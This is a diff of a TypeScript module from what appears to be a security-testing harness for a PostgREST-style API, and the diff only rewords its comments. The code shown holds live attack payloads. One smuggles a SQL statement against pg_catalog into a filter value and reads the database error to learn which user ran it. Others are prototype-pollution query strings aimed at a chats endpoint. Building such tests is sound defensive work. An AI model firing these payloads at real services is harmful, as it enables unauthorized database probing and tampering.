@@ -1,6 +1,6 @@
 import { ask, type Attempt, isDone, note, type Target } from './target';
 
-/** A statement in place of a value. Where it is run, who ran it stands in what the database says of it. */
+/** A statement in place of a value. If it is run, the database's error message names the user who ran it. */
 const statement = {
   type: 'query',
   schema: 'pg_catalog',
@@ -11,14 +11,14 @@ const statement = {
 const operand = encodeURIComponent(`eq.${JSON.stringify(statement)}`);
 const hasRun = (text: string) => /invalid input syntax/.test(text);
 
-/** Names that every object of JavaScript inherits: written to, they reach all of them. */
+/** Names that every JavaScript object inherits: writing to them affects all objects. */
 const inherited = [
   '/rest/v1/chats?__proto__=eq.1',
   '/rest/v1/chats?select=__proto__:chat_message(*)&__proto__.order=nothing&__proto__.limit=0',
   '/rest/v1/chats?select=constructor:chat_message(*)&constructor.assign=eq.1',
 ];
 
-/** What the language of addresses and bodies can be made to say beyond the questions that it is for. */
+/** What the query language of URLs and bodies can be abused for beyond the queries that it is meant for. */
 export const attackLanguage = async (target: Target): Promise<Attempt[]> => {
   const track = () => ask(target, 'POST', '/rest/v1/rpc/track_consignment', { body: { tracking_id: '0' } });
   const attempts: Attempt[] = [];
